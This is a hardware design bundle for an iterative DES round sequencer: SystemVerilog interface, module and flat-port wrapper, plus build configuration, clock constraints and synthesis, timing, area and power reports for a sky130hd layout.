[src/rtl/des_round_sequencer_if.sv]
// Request/response stream, round-interface and status signals of des_round_sequencer.
// The master drives requests; the slave is the sequencer; core is the DES round core side.
interface des_round_sequencer_if #(
  parameter int CNT_W = 16
);
  logic             in_valid;
  logic             in_ready;
  logic             in_decrypt;
  logic [55:0]      in_key;
  logic [63:0]      in_data;
  logic [3:0]       roundSel;
  logic             decrypt;
  logic [55:0]      key;
  logic [63:0]      desIn;
  logic [63:0]      desOut;
  logic             out_valid;
  logic             out_ready;
  logic [63:0]      out_data;
  logic             busy;
  logic [CNT_W-1:0] op_count;

  modport master (
    output in_valid, in_decrypt, in_key, in_data, out_ready,
    input  in_ready, out_valid, out_data, busy, op_count
  );

  modport slave (
    input  in_valid, in_decrypt, in_key, in_data, out_ready, desOut,
    output in_ready, roundSel, decrypt, key, desIn, out_valid, out_data, busy, op_count
  );

  modport core (
    input  roundSel, decrypt, key, desIn,
    output desOut
  );
endinterface

[src/rtl/des_round_sequencer.sv]
// Steps an iterative DES core through ROUNDS rounds for one block per request.
// Build option DES_KEY_ZEROIZE_EN clears the held key and data once the result is captured.
module des_round_sequencer #(
  parameter int ROUNDS = 16,
  parameter int CNT_W  = 16
) (
  input logic                  clk,
  input logic                  rst,
  des_round_sequencer_if.slave bus
);

  typedef enum logic [1:0] {
    IDLE = 2'd0,
    RUN  = 2'd1,
    CAPT = 2'd2,
    DONE = 2'd3
  } state_t;

  localparam logic [3:0]       LAST_RND = 4'(ROUNDS - 1);
  localparam logic [CNT_W-1:0] CNT_MAX  = {CNT_W{1'b1}};

  state_t           state_r;
  state_t           state_nxt_s;
  logic [3:0]       cnt_r;
  logic [55:0]      key_r;
  logic [63:0]      din_r;
  logic             dec_r;
  logic [63:0]      out_data_r;
  logic             out_valid_r;
  logic [CNT_W-1:0] op_count_r;
  logic             in_ready_r;
  logic             busy_r;
  logic             accept_s;
  logic             last_rnd_s;
  logic             release_s;

  // Handshake qualifiers derived from the current state.
  always_comb begin
    accept_s   = 1'b0;
    last_rnd_s = 1'b0;
    release_s  = 1'b0;
    if (state_r == IDLE) begin
      accept_s = bus.in_valid;
    end else begin
      accept_s = 1'b0;
    end
    if (state_r == RUN) begin
      last_rnd_s = (cnt_r == LAST_RND);
    end else begin
      last_rnd_s = 1'b0;
    end
    if (state_r == DONE) begin
      release_s = out_valid_r && bus.out_ready;
    end else begin
      release_s = 1'b0;
    end
  end

  // Next-state selection.
  always_comb begin
    state_nxt_s = state_r;
    case (state_r)
      IDLE: begin
        if (accept_s) begin
          state_nxt_s = RUN;
        end else begin
          state_nxt_s = IDLE;
        end
      end
      RUN: begin
        if (last_rnd_s) begin
          state_nxt_s = CAPT;
        end else begin
          state_nxt_s = RUN;
        end
      end
      CAPT: begin
        state_nxt_s = DONE;
      end
      DONE: begin
        if (release_s) begin
          state_nxt_s = IDLE;
        end else begin
          state_nxt_s = DONE;
        end
      end
      default: begin
        state_nxt_s = IDLE;
      end
    endcase
  end

  // State register plus registered in_ready/busy decoded from the next state.
  always_ff @(posedge clk or negedge rst) begin
    if (!rst) begin
      state_r    <= IDLE;
      in_ready_r <= 1'b1;
      busy_r     <= 1'b0;
    end else begin
      state_r    <= state_nxt_s;
      in_ready_r <= (state_nxt_s == IDLE);
      busy_r     <= (state_nxt_s == RUN) || (state_nxt_s == CAPT);
    end
  end

  // Round counter: restarts on accept, wraps to zero after the last round.
  always_ff @(posedge clk or negedge rst) begin
    if (!rst) begin
      cnt_r <= 4'd0;
    end else if (accept_s) begin
      cnt_r <= 4'd0;
    end else if (state_r == RUN) begin
      if (last_rnd_s) begin
        cnt_r <= 4'd0;
      end else begin
        cnt_r <= cnt_r + 4'd1;
      end
    end else begin
      cnt_r <= cnt_r;
    end
  end

  // Operand hold registers feeding the core for the whole operation.
  always_ff @(posedge clk or negedge rst) begin
    if (!rst) begin
      key_r <= 56'd0;
      din_r <= 64'd0;
      dec_r <= 1'b0;
    end else if (accept_s) begin
      key_r <= bus.in_key;
      din_r <= bus.in_data;
      dec_r <= bus.in_decrypt;
    end else if (state_r == CAPT) begin
`ifdef DES_KEY_ZEROIZE_EN
      key_r <= 56'd0;
      din_r <= 64'd0;
`else
      key_r <= key_r;
      din_r <= din_r;
`endif
      dec_r <= dec_r;
    end else begin
      key_r <= key_r;
      din_r <= din_r;
      dec_r <= dec_r;
    end
  end

  // Result capture, downstream valid and saturating completion counter.
  always_ff @(posedge clk or negedge rst) begin
    if (!rst) begin
      out_data_r  <= 64'd0;
      out_valid_r <= 1'b0;
      op_count_r  <= {CNT_W{1'b0}};
    end else if (state_r == CAPT) begin
      out_data_r  <= bus.desOut;
      out_valid_r <= 1'b1;
      if (op_count_r != CNT_MAX) begin
        op_count_r <= op_count_r + CNT_W'(1);
      end else begin
        op_count_r <= op_count_r;
      end
    end else if (release_s) begin
      out_data_r  <= out_data_r;
      out_valid_r <= 1'b0;
      op_count_r  <= op_count_r;
    end else begin
      out_data_r  <= out_data_r;
      out_valid_r <= out_valid_r;
      op_count_r  <= op_count_r;
    end
  end

  assign bus.in_ready  = in_ready_r;
  assign bus.busy      = busy_r;
  assign bus.roundSel  = cnt_r;
  assign bus.key       = key_r;
  assign bus.desIn     = din_r;
  assign bus.decrypt   = dec_r;
  assign bus.out_valid = out_valid_r;
  assign bus.out_data  = out_data_r;
  assign bus.op_count  = op_count_r;

endmodule

[src/flat_wrapper.sv]
// flat-port wrapper written by rule: the top's interface ports become plain ports
module des_round_sequencer_flat 
#(
  parameter int ROUNDS = 16,
  parameter int CNT_W  = 16
)
  (clk, rst, bus_in_valid, bus_in_decrypt, bus_in_key, bus_in_data, bus_out_ready, bus_desOut, bus_in_ready, bus_roundSel, bus_decrypt, bus_key, bus_desIn, bus_out_valid, bus_out_data, bus_busy, bus_op_count);
  des_round_sequencer_if #(.CNT_W(CNT_W)) bus_i ();
  input logic clk;
  input logic rst;
  input wire logic [$bits(bus_i.in_valid)-1:0] bus_in_valid;
  input wire logic [$bits(bus_i.in_decrypt)-1:0] bus_in_decrypt;
  input wire logic [$bits(bus_i.in_key)-1:0] bus_in_key;
  input wire logic [$bits(bus_i.in_data)-1:0] bus_in_data;
  input wire logic [$bits(bus_i.out_ready)-1:0] bus_out_ready;
  input wire logic [$bits(bus_i.desOut)-1:0] bus_desOut;
  output wire logic [$bits(bus_i.in_ready)-1:0] bus_in_ready;
  output wire logic [$bits(bus_i.roundSel)-1:0] bus_roundSel;
  output wire logic [$bits(bus_i.decrypt)-1:0] bus_decrypt;
  output wire logic [$bits(bus_i.key)-1:0] bus_key;
  output wire logic [$bits(bus_i.desIn)-1:0] bus_desIn;
  output wire logic [$bits(bus_i.out_valid)-1:0] bus_out_valid;
  output wire logic [$bits(bus_i.out_data)-1:0] bus_out_data;
  output wire logic [$bits(bus_i.busy)-1:0] bus_busy;
  output wire logic [$bits(bus_i.op_count)-1:0] bus_op_count;
  assign bus_i.in_valid = bus_in_valid;
  assign bus_i.in_decrypt = bus_in_decrypt;
  assign bus_i.in_key = bus_in_key;
  assign bus_i.in_data = bus_in_data;
  assign bus_i.out_ready = bus_out_ready;
  assign bus_i.desOut = bus_desOut;
  assign bus_in_ready = bus_i.in_ready;
  assign bus_roundSel = bus_i.roundSel;
  assign bus_decrypt = bus_i.decrypt;
  assign bus_key = bus_i.key;
  assign bus_desIn = bus_i.desIn;
  assign bus_out_valid = bus_i.out_valid;
  assign bus_out_data = bus_i.out_data;
  assign bus_busy = bus_i.busy;
  assign bus_op_count = bus_i.op_count;
  des_round_sequencer #(.ROUNDS(ROUNDS), .CNT_W(CNT_W)) u_core (.clk(clk), .rst(rst), .bus(bus_i));
endmodule
[config.mk]
export PLATFORM = sky130hd
export DESIGN_NAME = des_round_sequencer_flat
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/des_round_sequencer_if.sv /design/src/rtl/des_round_sequencer.sv /design/src/flat_wrapper.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export CORE_MARGIN = 8
export CORE_UTILIZATION = 31
export DETAILED_ROUTE_END_ITERATION = 6
export PLACE_DENSITY = 0.69
export SLEW_MARGIN = 20
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
[constraint.sdc]
create_clock -name clk -period 2.2 [get_ports clk]
set_input_delay 0.44 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.44 -clock clk [all_outputs]
set_load 0.02 [all_outputs]
Word level (Yosys, flattened, before mapping):

Index checks and enable logic that the tools add are counted.

* memory bits (read-only): 0
* memories kept: 0
* bits in writable memories: 0
* latch bits: 0
* flip-flop bits (word level): 210
* logic and storage cells: 38
* input port bits: 189

* $add $sub $neg: 2
* bitwise logic cells: 0
* mux-type cells: 12
* $lt $le $gt $ge: 0
* reduce and logical (&&, ||, !) cells: 7
* eq/ne operators: 7
* shift-type cells: 0
* div/mod/pow operators: 0
* multiply operators: 0

Operators with widths (count)
* $add A16 B1 Y16 const B: 1
* $ne A16 B16 Y1 const B: 1
* $mux W4: 3
* $pmux W2 S4: 1
* $eq A2 B2 Y1 const B: 3
* $mux W1: 6
* $add A4 B1 Y4 const B: 1
* $eq A2 B1 Y1 const B: 2
* $eq A4 B4 Y1 const B: 1
* $logic_not A2 Y1: 2
* $mux W2: 2
* $reduce_bool A2 Y1: 2
* $reduce_and A2 Y1: 1
* $logic_and A1 B1 Y1: 1
* $logic_or A1 B1 Y1: 1

Longest topological paths before layout:

* depth after elaboration: 6
* mapped depth: 7
* mapped depth without buffers: 6

Least setup slack after synthesis:

Ideal clock, no wire load.

* kind: register to register
* from: register u_core.op_count_r[0] (netlist: u_core.bus.op_count[0])
* to: register u_core.op_count_r[10] (netlist: u_core.bus.op_count[10])
* library setup time: 125 ps
* data required time: 2075 ps
* path buffers: 0
* slack: 399 ps
* stages on the path, launching flop included: 6
* data arrival time: 1677 ps
* cells stage by stage: dfrtp_1 -> ha_1 -> nand4b_1 -> or3_1 -> nor2_1 -> mux2_2

* cells in the longest elaborated chain, start to end: 2
* elaborated cells on any way between the ends: 3

Ends and longest elaborated chain
* start: declaration: line des_round_sequencer.sv:30 `logic [CNT_W-1:0] op_count_r;`
* start signal: assignment: line des_round_sequencer.sv:154 `op_count_r <= {CNT_W{1'b0}};`
* start signal: assignment: line des_round_sequencer.sv:159 `op_count_r <= op_count_r + CNT_W'(1);`
* start signal: assignment: line des_round_sequencer.sv:161 `op_count_r <= op_count_r;`
* parallel branches: the longest is 2 deep, another holds $add A16 B1 Y16

Parallel ways; which one is timed is not known.
A chain may end at the register's enable or synchronous reset.

Worst setup path in the final report:

* from: register u_core.op_count_r[6] (netlist: u_core.bus.op_count[6])
* to: output bus_op_count[6]

RTL lines
* end: declaration: line flat_wrapper.sv:25 `output wire logic [$bits(bus_i.op_count)-1:0] bus_op_count;`

No word-level cell between the ends.

==> run_results.csv <==
group,metric,value,unit
outcome,status,"finished clean",
place,dp_hpwl,20800,um
setup_path,regToRegSetupSlack,300,ps
setup_path,path_cells,"clkdlybuf4s50_1",
sta,hold_viol,0,
route,wire_per_inst,19.3,um
setup_path,cp_slowest_stage_delay,670,ps
setup_path,path_buf_inv,1,
route,ant_nets,0,
sta,grt_setup_unrepaired,"false",
route,via_per_inst,4.48,
yosys,ys_seq_area_frac,0.619,
flow_run,drv_cap,0,
route,drt_iter0_drc,217,
setup_path,slowest_stage,"clkdlybuf4s50_1",
sta,setup_tns,0,ps
floorplan,core-area,27000,sq um
power,power_leakage,6.21,nW
final_layout,multi_input_area,3030,sq um
floorplan,fp.dieW,182,um
route,first_pass_iters,4,
yosys,avgSynthCellArea,13.2,sq um
place,port_buffers,396,
yosys,synth_nets,836,
floorplan,io_pins,397,
final_layout,final_util,0.514,
sta,slew_headroom,0.669,
yosys,synth.cell_area,8490,sq um
yosys,synth_cell_types,39,
grt,antenna_found_initial,2,
power,swShare,0.347,
setup_path,start_kind,"flop",
yosys,synth_warnings,0,
sta,holdWs,451,ps
power,clockPowerShare,0.208,
sta,drv_slew,0,
cts,root_buffer,"clkbuf_16",
worst_hold_path,min_path_type,"in2reg",
route,drc,0,
place,routabilityCongestion,0.759,
cts,insertion_delay,510,ps
power,ir_worst_vdd,0.893,mV
power,p_int,13.6,mW
power,p_per_area,1500,nW/um^2
grt,grt_pass1_vias,7105,
grt,grt_overflow,0,
cts,cts_made_buffers,25,
setup_path,crit_type,"reg2out",
power,combPwrFrac,0.464,
final_layout,area_growth,63.2,%
cts,cts_sinks,210,
final_layout,seq_area,5260,sq um
cts,ctsHtreeMaxLevel,1,
yosys,synth_edf_count,0,
cts,clk_path_buf_depth,3,
floorplan,die_h,182,um
yosys,ys_seq_elements,210,
setup_path,end_kind,"output pin",
cts,cts_tree,"done",
yosys,ys_async_sr_fraction,1.00,
sta,finalCritPeriodShare,0.954,
setup_path,crit_arrival,1660,ps
setup_path,crit_family,"buffers and inverters",
setup_path,cp.required,1760,ps
yosys,ys.flop_type,"dfrtp_1",
yosys,syn_inst,644,
floorplan,core.rowCount,60,
grt,grt_usage,0.161,
grt,grt_pass1_wl,42200,um
final_layout,nFillCells,2279,
final_layout,nets,1253,
sta,setup_viol,0,
floorplan,die_area,32900,sq um
final_layout,drive_gt1_frac,0.181,
floorplan,start_util,0.315,
power,seqPwrFrac,0.328,
sta,min_period,2100,ps
route,num_vias,6375,
sta,fmax,0.477,GHz
sta,clock_skew,9.94,ps
power,p_sw,7.21,mW
cts,clk_pin_slew_worst_paths,60,ps
sta,worst_pin_slew,497,ps
route,routed_wl,27400,um
setup_path,path_max_fanout,6,
grt,grt_max_degree,66,
placed cells by master (no fill, tap or decap), types with 5 or more instances in the layout:
cell type / n
mux2_4: 91
clkbuf_16: 25
mux2_2: 33
nand4_1: 6
nor2_1: 7
clkdlybuf4s50_1: 394
clkbuf_1: 7
xor2_1: 6
a21oi_1: 6
nand2_1: 205
clkbuf_8: 9
buf_12: 8
buf_4: 14
o21ai_0: 5
inv_1: 6
dfrtp_1: 209
final cells by class:
cell class / count / share of cell area
Timing Repair Buffer: 419 / 0.306
Clock buffer: 40 / 0.0550
Sequential cell: 210 / 0.379
Clock inverter: 6 / 0.00804
Antenna cell: 1 / 0.000181
Multi-Input combinational cell: 399 / 0.219
Tap cell: 341 / 0.0308
Inverter: 6 / 0.00163
per-layer routing:
| metal | routed length [um] | part of all wire | global-route usage | vias up |
|---|---|---|---|---|
| met1 | 10700 | 0.39 | 0.181 | 3076 |
| met5 | 13 | 0.00047 | 0 | - |
| met4 | 731 | 0.027 | 0.0489 | 2 |
| li1 | - | - | - | 2974 |
| met2 | 13100 | 0.48 | 0.274 | 276 |
| met3 | 2860 | 0.10 | 0.0667 | 47 |
synthesized netlist by cell type, types with 2 or more instances:
cell type	instances	area [sq um]
dfrtp_1	209	5230
buf_1	4	15.0
and2_1	2	12.5
inv_1	6	22.5
xor2_1	6	52.6
clkbuf_1	3	11.3
nand4_1	6	37.5
nand3_1	2	10.0
nand2_1	206	773
nand4b_1	2	17.5
buf_2	12	60.1
ha_1	3	37.5
mux2_2	33	372
a31oi_1	3	18.8
nor2_1	7	26.3
nor3_1	4	20.0
a21oi_1	6	30.0
mux2_4	91	1370
o21ai_0	5	25.0
and3_1	4	25.0
buf_6	10	113
nor4_4	2	42.5
o21a_1	2	15.0
cell families (layout without fill, tap and decap cells):
family / Yosys count / count (layout) / share of synthesized area
flops: 210 / 210 / 0.619
other cells: 0 / 1 / 0
xor+xnor: 7 / 7 / 0.00722
compound gates: 22 / 22 / 0.0165
buf+inv: 35 / 471 / 0.0261
simple gates: 242 / 242 / 0.121
mux: 125 / 125 / 0.206
fa+ha+maj: 3 / 3 / 0.00442
state kept, by name, summed over array words and instances (netlist names):
signal / count
u_core.bus.decrypt: 1
u_core.bus.busy: 1
u_core.bus.desIn: 64
u_core.bus.key: 56
u_core.bus.out_valid: 1
u_core.bus.op_count: 16
u_core.state_r: 2
u_core.bus.out_data: 64
u_core.bus.roundSel: 4
u_core.bus.in_ready: 1
worst paths after layout:
check | from | endpoint | cells after the start
worst min-delay path | bus_desOut[29] | u_core.bus.out_data[29]$_DFFE_PN0P_ | 3
worst max register to register | u_core.bus.op_count[1]$_DFFE_PN0P_ | u_core.bus.op_count[10]$_DFFE_PN0P_ | 5
max in group asynchronous | rst | u_core.bus.in_ready$_DFF_PN1_ | 3
worst min register to register | u_core.bus.out_data[6]$_DFFE_PN0P_ | u_core.bus.out_data[6]$_DFFE_PN0P_ | 2
worst max-delay path | u_core.bus.op_count[6]$_DFFE_PN0P_ | bus_op_count[6] | 1
min in group asynchronous | rst | u_core.bus.op_count[8]$_DFFE_PN0P_ | 2
power groups by stage:
stage          logic [mW]  clock network (mW)  registers, mW
2_1_floorplan        2.66                   0           8.90
3_3_place_gp         9.62                   0           6.84
3_5_place_dp         9.76                   0           6.87
4_1_cts              9.81                4.47           6.83
5_1_grt              10.2                4.61           7.04
6_report             9.65                4.34           6.82
stage by stage:
stage                     cell area, sq um  cells  setup WS [ps]  total power, mW
after floorplan                       8490    644            399             11.6
after global placement               13000   1374            211             16.5
after detailed placement             13000   1374            191             16.6
after CTS                            13900   1421           45.3             21.1
after global routing                 13900   1422           14.7             21.9
final                                13900   1422            102             20.8
repair_timing:
item / in CTS / in global routing
hold buffers: 1 / 0
hold endpoints to repair: 47 / 0
setup endpoints to repair: 0 / 1
setup buffers: 0 / 0
resized for setup: 0 / 1
(Power assumes the default switching activity.)
